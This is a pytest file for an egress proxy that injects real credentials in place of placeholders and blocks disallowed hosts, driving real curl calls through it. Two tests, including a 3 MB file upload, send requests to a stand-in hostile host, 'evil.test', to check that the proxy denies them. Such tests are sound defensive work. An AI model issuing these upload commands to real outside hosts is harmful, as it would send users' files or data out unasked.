"""A real curl through the worker, as a command of a box would run it."""

from __future__ import annotations

import asyncio
import base64
import json
import os
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from ringfence.host.kernel.outward.credentials import Position, Scheme
from tests.support.egress_rig import SECRET, Rig, binding, placeholder, rig, rule

PH = placeholder()


@pytest.fixture
async def way(tmp_path: Path) -> AsyncIterator[Rig]:
    positions = (Position(), Position(scheme=Scheme.BASIC_PASSWORD))
    rules = (rule(ports=(443, 80), plain=True),)
    async with rig(tmp_path, rules=rules, bindings=(binding(positions=positions),)) as made:
        made.ticket(PH)
        yield made


async def curl(way: Rig, *arguments: str) -> tuple[int, str]:
    """(exit status, output)."""
    proxy = f"http://127.0.0.1:{way.port}"
    environment = {"PATH": os.environ["PATH"], "https_proxy": proxy, "http_proxy": proxy}
    process = await asyncio.create_subprocess_exec(
        "curl",
        "-sS",
        "--max-time",
        "20",
        "--cacert",
        str(way.user_ca.path),
        *arguments,
        env=environment,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
    )
    said, _ = await process.communicate()
    return process.returncode or 0, said.decode()


async def test_bearer_and_basic(way: Rig) -> None:
    status, _ = await curl(way, "-H", f"Authorization: Bearer {PH}", "https://api.test/a")
    assert status == 0
    status, _ = await curl(way, "-u", f"x:{PH}", "https://api.test/b")
    assert status == 0
    bearer, basic = (each.value("authorization") for each in way.upstream.arrived)
    assert bearer == b"Bearer " + SECRET
    assert base64.b64decode(basic.removeprefix(b"Basic ")) == b"x:" + SECRET


async def test_a_denial_is_shown_by_the_tool(way: Rig) -> None:
    """Case 7: not an empty reply."""
    status, said = await curl(way, "-w", "%{http_code}", "https://evil.test/x")
    assert status == 0 and said.endswith("403")
    assert json.loads(said[:-3])["error"]["code"] == "denied"


async def test_an_upload_with_expect_and_a_download(way: Rig, tmp_path: Path) -> None:
    big = tmp_path / "big"
    big.write_bytes(os.urandom(3 << 20))
    status, said = await curl(way, "-H", "Expect: 100-continue", "--data-binary", f"@{big}", "https://api.test/up")
    assert status == 0, said
    assert way.upstream.arrived[0].body == big.read_bytes()
    assert json.loads(said)["body"].encode("latin-1") == big.read_bytes()


async def test_a_denied_upload_ends_with_the_reason_and_not_a_reset(way: Rig, tmp_path: Path) -> None:
    """D69: what a denied push sees."""
    big = tmp_path / "big"
    big.write_bytes(bytes(3 << 20))
    status, said = await curl(way, "-H", "Expect:", "--data-binary", f"@{big}", "https://evil.test/up")
    assert status == 0, said
    assert json.loads(said)["error"]["code"] == "denied"


async def test_plain_http_and_many_in_one_run(way: Rig) -> None:
    status, said = await curl(way, "http://api.test/p", "https://api.test/q", "https://api.test/r")
    assert status == 0, said
    assert [each.line for each in way.plain.arrived] == [b"GET /p HTTP/1.1"]
    assert [each.line for each in way.upstream.arrived] == [b"GET /q HTTP/1.1", b"GET /r HTTP/1.1"]
    assert way.upstream.connections == 1
